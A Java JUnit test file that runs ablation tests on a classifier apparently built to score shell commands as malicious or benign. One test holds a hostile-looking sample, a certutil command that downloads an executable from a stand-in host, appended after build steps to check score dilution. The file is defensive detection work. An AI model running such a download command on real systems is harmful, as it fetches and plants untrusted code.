package dev.longtail.training.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.training.data.TrainingSet;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class AblationTest {
  private static final ModelSettings SETTINGS = new ModelSettings(20, 1);
  private static final TrainingSet SET = Lines.set(400, 1);
  private static final LineSources SOURCES = LineSources.TEXT.with(new HashedVectors());
  private static final List<String> LINES =
      Lines.draw(50, 2).stream().map(line -> "git status; " + line.cmd()).toList();

  private static final PlattScaling PLAIN = new PlattScaling(1, 0);

  private static Model model;
  private static Ablation ablation;

  @BeforeAll
  static void train() {
    model = Model.train(SET, SETTINGS, SOURCES);
    ablation = new Ablation(model, SET, SOURCES);
  }

  @Test
  void withoutEmbeddingsItIsTheModelOfTheText() {
    assertSame(Ingredient.EMBEDDINGS, Model.train(SET, SETTINGS, LineSources.TEXT));
  }

  @Test
  void withoutMarksItIsTheModelThatNeverSawAny() {
    assertSame(Ingredient.MARKS, Model.train(SET, SETTINGS, SOURCES.withoutMarks()));
  }

  @Test
  void withoutSegmentsAnAttackIsDilutedByWhatStandsBeforeIt() {
    String attack = "certutil -urlcache -f http://a/b.exe b.exe";
    String behind = "umask 022; cd /srv/app; make clean; make all; make install; " + attack;
    CommandClassifier full = model.classifier();
    CommandClassifier without = ablation.without(Ingredient.SEGMENTS);
    assertThat(without.score(attack)).isEqualTo(PLAIN.probability(model.classifier().sum(attack)));
    assertThat(without.score(behind))
        .isLessThan(PLAIN.probability(((ModelClassifier) full).sum(behind)));
  }

  @Test
  void withoutCharactersOnlyTokensCount() {
    CommandClassifier text =
        new Ablation(Model.train(SET, SETTINGS, LineSources.TEXT), SET, LineSources.TEXT)
            .without(Ingredient.CHARACTERS);
    assertThat(text.score("cat   a.txt")).isEqualTo(text.score("cat a.txt"));
    assertThat(text.score("nc a.txt")).isNotEqualTo(text.score("cat a.txt"));
  }

  @Test
  void withoutWordsOnlyCharactersCount() {
    CommandClassifier text =
        new Ablation(Model.train(SET, SETTINGS, LineSources.TEXT), SET, LineSources.TEXT)
            .without(Ingredient.WORDS);
    assertThat(text.score("cat   a.txt")).isNotEqualTo(text.score("cat a.txt"));
    // Digits are one character to the n-grams, and different words.
    assertThat(text.score("cat a1.txt")).isEqualTo(text.score("cat a2.txt"));
  }

  @ParameterizedTest
  @EnumSource
  void everyIngredientChangesScores(Ingredient ingredient) {
    CommandClassifier without = ablation.without(ingredient);
    ModelClassifier full = model.classifier();
    assertThat(LINES).anyMatch(line -> without.score(line) != PLAIN.probability(full.sum(line)));
  }

  private static void assertSame(Ingredient ingredient, Model other) {
    CommandClassifier without = ablation.without(ingredient);
    ModelClassifier classifier = other.classifier();
    for (String line : LINES) {
      assertThat(without.score(line)).isEqualTo(PLAIN.probability(classifier.sum(line)));
    }
  }
}
